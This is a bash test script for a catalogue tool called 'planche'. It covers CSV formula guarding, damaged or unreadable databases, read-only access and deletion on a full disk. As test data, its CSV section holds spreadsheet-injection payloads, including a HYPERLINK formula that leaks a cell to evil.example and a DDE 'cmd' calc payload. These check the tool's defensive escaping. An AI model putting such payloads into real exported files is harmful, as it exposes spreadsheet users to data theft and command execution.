#!/usr/bin/env bash
# The catalogue under attack or accident (#15): CSV cells a spreadsheet would
# run, a damaged planche.db, one the user cannot write, and rm on a full disk.
. "$(dirname "$0")/lib.sh"
command -v jq >/dev/null || { [ "${CI:-}" = true ] && fail "jq is needed"; echo "skip: no jq"; exit 77; }
command -v sqlite3 >/dev/null || { [ "${CI:-}" = true ] && fail "sqlite3 is needed"; echo "skip: no sqlite3"; exit 77; }

# A part that needs root (a mount, another user) is skipped elsewhere, but
# never under CI.
no_root_part() { # no_root_part WHAT
	[ "${CI:-}" = true ] && fail "$1 needs root and mount namespaces (unshare -m), which CI must give"
	echo "# skipped: $1 (needs root and unshare -m)"
}
can_mount() { [ "$(id -u)" = 0 ] && unshare -m true 2>/dev/null; }

planche init coll >/dev/null
cd coll
make_image scans/a.jpg 60 80
make_image scans/b.png 50 40
planche add scans >/dev/null
a=$(planche query --format json | jq -r '.[] | select(.path == "scans/a.jpg") | .id')

# ---- CSV: formulas come out guarded, and come back as they were ----
planche set "$a" title='=HYPERLINK("http://evil.example/?"&A1,"click")' creator='@SUM(A1:A9)' \
	description=$'\t=1+1' publisher='+cmd|'"' /C calc'"'!A0' notes='-2+3' \
	credit="'=already quoted" >/dev/null
planche export --format csv > sheet.csv
# Every cell of row 2, as a spreadsheet sees it (the reader below is RFC 4180).
cells=$(awk 'BEGIN { RS = "\r\n" } NR == 2' sheet.csv)
for bad in ',=' ',"=' ',@' ',"@' ',+' ',"+' ',-2' $',"\t=' ; do
	lacks "$cells" "$bad" "export --format csv: a cell starting a formula"
done
contains "$cells" "\"'=HYPERLINK(" "the formula written as text"
contains "$cells" "'@SUM(A1:A9)" "@ guarded"
contains "$cells" "'-2+3" "- guarded"
contains "$cells" "''=already quoted" "an apostrophe before a formula gets one more"
q=$(planche query --format csv | tr -d '\r' | grep "^$a,")
contains "$q" "\"'=HYPERLINK(" "query --format csv guards formulas too"
contains "$q" ",'@SUM(A1:A9)," "query --format csv: @ guarded"
ok "export and query --format csv write no cell a spreadsheet would run as a formula"

before=$(planche show "$a" --format json)
expect_status 0 planche import sheet.csv
contains "$OUT" "0 updated, 2 unchanged, 0 failed" "export -> import is a no-op"
equals "$(planche show "$a" --format json)" "$before" "the record after the round trip"
equals "$(jq -r .title <<<"$before")" '=HYPERLINK("http://evil.example/?"&A1,"click")' "title kept as typed"
planche export --format csv > again.csv
cmp sheet.csv again.csv || fail "a second export differs"
ok "import takes off exactly the guard export added: the round trip changes nothing"

# ---- a damaged catalogue ----
damage() { # damage COPY INDEX: flips 64 bytes inside the index's root page
	local db=$1/planche.db page size
	sqlite3 "$db" 'PRAGMA wal_checkpoint(TRUNCATE)' >/dev/null
	page=$(sqlite3 "$db" "SELECT rootpage FROM sqlite_master WHERE name = '$2'")
	size=$(sqlite3 "$db" 'PRAGMA page_size')
	[ -n "$page" ] || fail "no index $2"
	# The copy carries the stamp of a passed check; the damage keeps the
	# file's size and modification time: only the change time tells.
	[ -s "$db.checked" ] || fail "no planche.db.checked after the commands above"
	local mtime; mtime=$(stat -c %y "$db")
	head -c 64 /dev/zero | tr '\0' '\245' |
		dd of="$db" bs=1 seek=$(( (page - 1) * size + size - 200 )) conv=notrunc 2>/dev/null
	touch -d "$mtime" "$db"
	[ "$(sqlite3 "$db" 'PRAGMA integrity_check' 2>&1)" != ok ] || fail "the damage did not take"
}
cp -a . ../broken
# The index on items.sha256: query and show never read it.
damage ../broken sqlite_autoindex_items_2
(
	cd ../broken
	for cmd in "query" "show $a" "export" "build" "add scans" "set $a title=x" "clean"; do
		# shellcheck disable=SC2086
		expect_status 1 planche $cmd
		contains "$ERR" "planche.db: the catalogue is damaged" "planche $cmd on a damaged catalogue"
		contains "$ERR" "backup" "planche $cmd says what to do"
		equals "$(grep -c . <<<"$ERR")" 1 "planche $cmd: one line"
	done
	expect_status 1 planche verify
	contains "$OUT" "damaged" "verify reports the catalogue"
	contains "$OUT" "planche.db" "verify names the file"
	contains "$OUT" "NOT OK" "verify's verdict"
	expect_status 1 planche verify --full
	contains "$OUT" "damaged" "verify --full"
	cd scans
	expect_status 1 planche run
	contains "$ERR" "the catalogue is damaged" "run inside a damaged collection"
	[ ! -e planche.db ] || fail "run made a second collection inside the damaged one"
)
expect_status 0 planche verify --full
contains "$OUT" "integrity_check" "verify --full says it checked the whole catalogue"
ok "a damaged index: every command stops with one line naming planche.db and what to do; verify reports it"

cp -a . ../notadb
printf 'this is no longer SQLite at all, only garbage bytes......' |
	dd of=../notadb/planche.db bs=1 seek=0 conv=notrunc 2>/dev/null
(
	cd ../notadb
	expect_status 1 planche query
	contains "$ERR" "planche.db: the catalogue is damaged (file is not a database)" "a header destroyed"
	expect_status 1 planche add scans
	contains "$ERR" "the catalogue is damaged" "add on a destroyed header"
)
ok "a catalogue that is no longer SQLite is reported as damaged, by name"

# ---- a catalogue the user cannot write ----
cp -a . ../newer
sqlite3 ../newer/planche.db 'PRAGMA user_version = 99'
(cd ../newer && expect_status 1 planche query && contains "$ERR" "newer planche" "newer schema" &&
	contains "$ERR" "upgrade planche" "says what to do")
cp -a . ../older
sqlite3 ../older/planche.db 'PRAGMA user_version = 0'
(cd ../older && expect_status 1 planche show "$a" && contains "$ERR" "older than this planche" "older schema" &&
	contains "$ERR" "not migrated by a reading command" "reading never migrates")
ok "a reading command says clearly when the schema is newer (upgrade) or older (not migrated)"

planche build >/dev/null 2>&1 || true
reads() { # reads RUNNER: the reading commands, run by RUNNER; outputs in $RO
	"$@" "$PLANCHE" query --format json > "$RO/q.json" 2> "$RO/err" || fail "query: $(cat "$RO/err")"
	equals "$(jq length "$RO/q.json")" 2 "query on a read-only catalogue"
	"$@" "$PLANCHE" show "$a" > "$RO/out" 2> "$RO/err" || fail "show: $(cat "$RO/err")"
	contains "$(cat "$RO/out")" "HYPERLINK" "show on a read-only catalogue"
	"$@" "$PLANCHE" export --format csv > "$RO/csv" 2> "$RO/err" || fail "export: $(cat "$RO/err")"
	equals "$(grep -c $'\r$' "$RO/csv")" 3 "export on a read-only catalogue"
	"$@" "$PLANCHE" verify > "$RO/out" 2> "$RO/err" || fail "verify: $(cat "$RO/out" "$RO/err")"
	contains "$(cat "$RO/out")" "ok: catalogue ok" "verify on a read-only catalogue"
}
RO=$WORK/ro; mkdir -p "$RO"
if can_mount; then
	# Another user: the collection is readable, not writable, and SQLite
	# cannot make its shared-memory file beside it.
	chmod 755 "$WORK"
	rm -f planche.db-wal planche.db-shm
	other() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }
	(cd "$WORK/coll" && reads other)
	[ ! -e planche.db-shm ] || [ "$(stat -c %U planche.db-shm)" = root ] || fail "the reader made files"
	ok "show, query, export and verify work for a user who cannot write the catalogue"

	# A read-only mount: no lock can be taken, no file made.
	unshare -m bash -c "mount --bind '$WORK/coll' '$WORK/coll' && mount -o remount,bind,ro '$WORK/coll' &&
		cd '$WORK/coll' && $(declare -f reads equals fail contains) && PLANCHE='$PLANCHE' a='$a' \
		RO='$RO' TEST_NAME=$TEST_NAME && reads env" > "$RO/mount.log" 2>&1 ||
		{ cat "$RO/mount.log"; fail "reading a read-only mount"; }
	ok "show, query, export and verify work on a read-only mount (no lock taken)"
else
	no_root_part "reading a catalogue as another user and on a read-only mount"
fi

# ---- rm on a full disk ----
if can_mount; then
	mkdir -p "$WORK/full"
	cp scans/a.jpg scans/b.png "$WORK/"
	# 40 KiB left: SQLite opens (its shared memory takes 32), the commit cannot.
	unshare -m bash -c "
		set -e
		mount -t tmpfs -o size=2m tmpfs '$WORK/full'
		cd '$WORK/full'
		'$PLANCHE' init c >/dev/null && cd c && mkdir scans && cp '$WORK/a.jpg' '$WORK/b.png' scans/
		'$PLANCHE' add scans >/dev/null
		sqlite3 planche.db 'PRAGMA wal_checkpoint(TRUNCATE)' >/dev/null
		dd if=/dev/zero of=filler bs=4k 2>/dev/null || true
		truncate -s -40k filler
		set +e
		'$PLANCHE' rm scans/a.jpg > '$WORK/rm.out' 2> '$WORK/rm.err'
		echo \$? > '$WORK/rm.status'
		rm filler
		'$PLANCHE' query --format json > '$WORK/rm.after'
	" || fail "the full-disk rm could not be set up"
	equals "$(cat "$WORK/rm.status")" 1 "rm on a full disk fails"
	contains "$(cat "$WORK/rm.err")" "nothing was removed" "rm on a full disk says so"
	lacks "$(cat "$WORK/rm.out")" "removed" "rm on a full disk claims no removal"
	equals "$(jq length "$WORK/rm.after")" 2 "both images still in the catalogue"
	ok "rm on a full disk says nothing was removed, and nothing was"
else
	no_root_part "rm on a full disk"
fi

done_testing
